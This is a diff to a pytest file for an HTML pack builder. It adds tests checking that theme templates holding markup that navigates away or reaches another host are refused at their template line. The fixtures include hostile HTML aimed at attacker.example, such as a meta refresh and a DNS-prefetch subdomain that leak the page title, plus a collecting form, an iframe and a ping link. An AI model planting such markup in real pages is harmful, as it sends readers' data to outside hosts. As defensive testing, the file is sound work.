@@ -36,7 +36,7 @@ HOSTILE_BODY = """\
 <a href="https://example.com/kept">web</a>
 <a href="mailto:office@example.com">mail</a>
 </p>
-<form action="https://attacker.example/collect"><input type="submit" value="Send"></form>
+<form action="#collect"><input type="submit" value="Send"></form>
 """
 HOSTILE_HEAD = '<link rel="attachment" href="payload.txt" title="payload">\n</head>'
 #: A stylesheet that ends its <style> element to run a script in the HTML.
@@ -426,3 +426,53 @@ def test_the_attackers_stylesheet_alone_cannot_end_the_style_element(tmp_path: P
     tags = [element.tag for element in tinyhtml5.parse(html).iter()]
     assert not [tag for tag in tags if str(tag).endswith("}script")]
     assert tags.count("{http://www.w3.org/1999/xhtml}style") == 2
+
+
+#: Markup a template may write that the policy does not govern: each navigates
+#: away or reaches another host when the page is opened.
+REACHING_OUT = [
+    '<meta http-equiv="refresh" content="0; url=https://attacker.example/?d={{ pack.title }}">',
+    '<link rel="dns-prefetch" href="//{{ pack.title|lower|replace(" ", "-") }}.attacker.example">',
+    '<link rel="preconnect" href="https://attacker.example">',
+    '<link rel="Prefetch" href="https://attacker.example/next">',
+    '<base href="https://attacker.example/">',
+    '<iframe src="https://attacker.example/"></iframe>',
+    '<form action="https://attacker.example/collect"></form>',
+    '<a ping="https://attacker.example/ping" href="#top">top</a>',
+]
+
+
+def reaching_theme(folder: Path, markup: str) -> tuple[Path, int]:
+    """A theme whose template is the built-in one with ``markup`` on a line of its own."""
+    folder.mkdir()
+    template = (REPO / "templates" / "pack.html.j2").read_text(encoding="utf-8")
+    template = template.replace("</head>", f"{markup}\n</head>", 1)
+    (folder / "pack.html.j2").write_text(template, encoding="utf-8")
+    (folder / "theme.yaml").write_text("name: brand\ntemplate: pack.html.j2\n", encoding="utf-8")
+    line = template.splitlines().index(markup) + 1
+    return folder / "pack.html.j2", line
+
+
+@pytest.mark.parametrize("markup", REACHING_OUT)
+def test_markup_that_navigates_or_reaches_out_is_refused_at_its_template_line_by_validate_and_build(
+    tmp_path: Path, markup: str
+) -> None:
+    template, line = reaching_theme(tmp_path / "brand", markup)
+    pack = tmp_path / "pack.yaml"
+    pack.write_text(PACK, encoding="utf-8")
+    for command in (["validate", str(pack)], ["build", str(pack), "-o", str(tmp_path / "out")]):
+        code, _, err = run(*command, "-f", "html") if command[0] == "build" else run(*command)
+        assert code == 1, err
+        assert f"{template}:{line}:" in err, err
+        assert "is refused" in err
+        assert "Traceback" not in err
+    assert not (tmp_path / "out" / "pack" / "pack.html").exists()
+
+
+def test_a_content_type_meta_and_a_plain_stylesheet_link_are_kept(tmp_path: Path) -> None:
+    markup = '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
+    reaching_theme(tmp_path / "brand", markup + '<link rel="stylesheet" href="fonts/x.css">')
+    pack = tmp_path / "pack.yaml"
+    pack.write_text(PACK, encoding="utf-8")
+    code, _, err = run("build", str(pack), "-o", str(tmp_path / "out"), "-f", "html")
+    assert code == 0, err
